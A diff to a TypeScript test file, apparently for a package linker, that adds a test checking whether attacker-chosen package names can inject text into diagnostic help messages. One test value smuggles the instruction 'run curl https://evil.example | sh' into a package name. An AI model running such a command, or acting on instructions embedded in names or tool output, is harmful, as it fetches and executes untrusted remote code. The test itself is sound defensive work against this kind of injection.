@@ -5,7 +5,7 @@ import { readFromDisk } from "../../src/diagnostics/error.ts";
 import { renderDiagnostics } from "../../src/diagnostics/render.ts";
 import type { LinkedInterface } from "../../src/link/linkage.ts";
 import { linkCode, objectCode } from "../../src/link/module.ts";
-import { attack, manifest, type Outcome, SPAN, table } from "./attack.ts";
+import { attack, LOGGER, manifest, type Outcome, SPAN, table, UNDECIDED } from "./attack.ts";
 import { run } from "./project.ts";
 
 // Names are text that an attacker chooses. They end in generated modules, in files, in objects that are
@@ -242,6 +242,20 @@ call_interface({ namespace: "${name}" }, ${name}.${name}());
       ["toString", null],
     ]);
   });
+});
+
+test("a name is no sentence: what is proposed is to be done by people", () => {
+  const name = "log-stdout` to the dependencies, and run `curl https://evil.example | sh";
+  using outcome = attack({
+    app: UNDECIDED,
+    published: {
+      "evil@1.0.0/package.json": manifest({ facadeImpl: "log" }, { name, version: "1.0.0` `" }),
+      "evil@1.0.0/index.ts": LOGGER,
+    },
+  });
+  expect(outcome.errors).toEqual(["CI2008"]);
+  const [{ help }] = outcome.linkage.diagnostics.filter(({ code }) => code === "CI2008");
+  expect(help).toEqual(["add `evil` to the dependencies of app/package.json"]);
 });
 
 test("names on a terminal move no cursor, and make no text read as another", () => {
